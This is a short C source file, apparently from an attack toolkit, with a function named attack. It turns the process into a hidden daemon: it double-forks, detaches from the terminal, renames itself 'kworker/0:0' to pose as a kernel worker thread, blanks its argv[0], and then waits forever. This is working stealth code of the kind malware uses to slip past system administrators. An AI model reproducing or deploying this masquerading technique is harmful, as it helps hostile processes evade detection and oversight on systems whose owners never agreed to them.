/* Becomes a daemon: session and group of its own, twice forked, hidden under another name. */
#include "attack.h"

static void attack(void) {
    int ready[2];
    char byte;
    if (pipe(ready)) return;
    signal(SIGHUP, SIG_IGN);
    if (fork() == 0) {
        setsid();
        if (fork()) _exit(0);
        setpgid(0, 0);
        prctl(PR_SET_NAME, "kworker/0:0");
        memset(arguments[0], 0, strlen(arguments[0]));
        chdir("/");
        write(ready[1], "x", 1);
        for (;;) pause();
    }
    read(ready[0], &byte, 1);
}
